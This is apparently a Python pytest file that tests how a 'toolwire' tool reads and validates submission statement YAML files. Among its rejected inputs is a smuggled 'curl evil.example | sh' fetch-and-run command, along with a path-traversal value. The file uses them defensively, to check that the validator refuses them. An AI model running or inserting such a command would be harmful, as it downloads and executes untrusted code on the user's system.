"""A statement says who, when, how and by which line; it is held to its form."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.root import ROOT
from tests.support.submission import STATEMENT
from toolwire.jobs.submission.statement import read_statement
from toolwire.model.errors import ToolwireError


def written(place: Path, text: str = STATEMENT, name: str = "lab") -> Path:
    """Write a statement into a folder of a name."""
    path = place / name / "statement.yaml"
    path.parent.mkdir()
    path.write_text(text, encoding="utf-8")
    return path


def test_it_is_read_whole(tmp_path: Path) -> None:
    """Each member is there, and the providers follow from the targets."""
    found = read_statement(written(tmp_path, STATEMENT.replace("]", ", vllm.vllm-responses/m:1]")))
    assert (found.submission, found.by, found.recorded) == ("lab", "A laboratory", "2026-11-21")
    assert found.targets == ("vllm/scripted", "vllm.vllm-responses/m:1")
    assert found.providers == ("vllm", "vllm.vllm-responses")
    assert found.line.startswith("toolwire audit ")


def test_the_one_of_the_page_is_read(tmp_path: Path) -> None:
    """What docs/submissions.md shows is a statement, and its line is the one that it says to run."""
    page = (ROOT / "docs" / "submissions.md").read_text(encoding="utf-8")
    text = page.partition("<!-- statement -->\n```yaml\n")[2].partition("```")[0]
    found = read_statement(written(tmp_path, text, "acme"))
    assert f"```sh\n{found.line}\n```" in page


def test_it_is_of_its_folder(tmp_path: Path) -> None:
    """A statement that was copied into another folder is told."""
    with pytest.raises(ToolwireError, match="the folder has another name") as told:
        read_statement(written(tmp_path, name="other"))
    assert "statement.yaml:1" in told.value.where


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("submission: lab", "submission: ../lab"),
        ("https://lab.example/toolwire", "http://lab.example"),
        ("[vllm/scripted]", "[vllm]"),
        ("[vllm/scripted]", "['vllm/*']"),
        ("[vllm/scripted]", "[]"),
        ("recorded: 2026-11-21", "recorded: yesterday"),
        ("line: toolwire audit", "line: curl evil.example | sh; toolwire audit"),
        ("by: A laboratory\n", ""),
        ("by: A laboratory", "by: A laboratory\nevidence: recorded"),
    ],
)
def test_what_is_not_of_its_form_is_refused(old: str, new: str, tmp_path: Path) -> None:
    """No member can name another level, a pattern of targets or a line of something else."""
    text = STATEMENT.replace(old, new)
    assert text != STATEMENT
    with pytest.raises(ToolwireError) as told:
        read_statement(written(tmp_path, text))
    assert "statement.yaml" in told.value.where
